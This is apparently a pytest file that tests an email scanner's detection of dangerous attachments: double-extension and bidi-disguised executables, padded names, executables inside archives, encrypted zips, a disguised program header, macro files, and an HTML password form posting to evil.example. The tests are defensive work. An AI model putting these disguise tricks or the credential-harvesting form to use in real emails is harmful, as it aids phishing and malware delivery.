"""Dangerous attachments (SECURITY.md PH-05, P10); archives are listed, never extracted."""

from __future__ import annotations

import io
import tarfile
import zipfile
from pathlib import Path

import pytest
from assess_helpers import codes, findings, iso_image, make_app, with_attachment


@pytest.fixture
def app(config_dir: Path):
    return make_app(config_dir)


def _zip(names: list[str], password_flag: bool = False) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        for n in names:
            zf.writestr(n, b"harmless test bytes")
    data = bytearray(buf.getvalue())
    if password_flag:  # mark every entry as encrypted (local and central headers)
        for sig in (b"PK\x03\x04", b"PK\x01\x02"):
            pos = data.find(sig)
            while pos != -1:
                off = pos + (6 if sig == b"PK\x03\x04" else 8)
                data[off] |= 1
                pos = data.find(sig, pos + 4)
    return bytes(data)


@pytest.mark.parametrize(
    ("name", "code", "true_ext"),
    [
        ("invoice.pdf.exe", "attachment-double-extension", ".exe"),
        ("invoice\u202efdp.exe", "attachment-bidi", ".exe"),
        ("report.pdf" + " " * 60 + ".js", "attachment-padding", ".js"),
        ("setup.msi", "attachment-executable", ".msi"),
        ("disk.iso", "attachment-executable", ".iso"),
    ],
)
def test_ph05_dangerous_names(app, name: str, code: str, true_ext: str) -> None:
    found = findings(app, with_attachment(name, b"test bytes"))
    hit = [f for f in found if f.code == code]
    assert hit and hit[0].severity == "danger", found
    assert true_ext in hit[0].reason  # the true extension is shown


def test_ph05_iso_holding_a_shortcut(app) -> None:
    found = findings(app, with_attachment("scan.iso", iso_image(["scan.lnk", "readme.txt"]), "application/octet-stream"))
    hit = [f for f in found if f.code == "attachment-archive"]
    assert hit and "SCAN.LNK" in hit[0].reason


def test_zip_holding_an_executable(app) -> None:
    found = findings(app, with_attachment("docs.zip", _zip(["docs/readme.txt", "docs/invoice.pdf.exe"]), "application/zip"))
    hit = [f for f in found if f.code == "attachment-archive"]
    assert hit and "invoice.pdf.exe" in hit[0].reason


def test_zip_of_documents_is_fine(app) -> None:
    found = findings(app, with_attachment("docs.zip", _zip(["a.pdf", "b.txt"]), "application/zip"))
    assert codes(found, "warning") == set()


def test_password_protected_zip(app) -> None:
    found = findings(app, with_attachment("secret.zip", _zip(["a.pdf"], password_flag=True), "application/zip"))
    assert "attachment-encrypted-archive" in codes(found, "warning")


def test_tar_holding_a_script(app) -> None:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz") as tf:
        info = tarfile.TarInfo("run.vbs")
        info.size = 4
        tf.addfile(info, io.BytesIO(b"test"))
    found = findings(app, with_attachment("bundle.tar.gz", buf.getvalue(), "application/gzip"))
    assert "attachment-archive" in codes(found, "danger")


def test_ph05_html_attachment_with_form(app) -> None:
    page = b'<html><form action="https://evil.example/"><input type="password" name="pw"></form></html>'
    found = findings(app, with_attachment("statement.html", page, "text/html"))
    assert "attachment-html-password" in codes(found, "danger")
    page = b'<html><form action="https://evil.example/"><input name="q"></form></html>'
    found = findings(app, with_attachment("statement.html", page, "text/html"))
    assert "attachment-html-form" in codes(found, "warning")


def test_program_disguised_by_name(app) -> None:
    found = findings(app, with_attachment("photo.jpg", b"MZ\x90\x00 test", "image/jpeg"))
    assert "attachment-magic" in codes(found, "danger")


def test_macro_document(app) -> None:
    found = findings(app, with_attachment("budget.xlsm", b"PK\x03\x04", "application/vnd.ms-excel"))
    assert "attachment-macro" in codes(found, "warning")


def test_ordinary_pdf_is_fine(app) -> None:
    found = findings(app, with_attachment("invoice.pdf", b"%PDF-1.4 test", "application/pdf"))
    assert codes(found, "warning") == set()
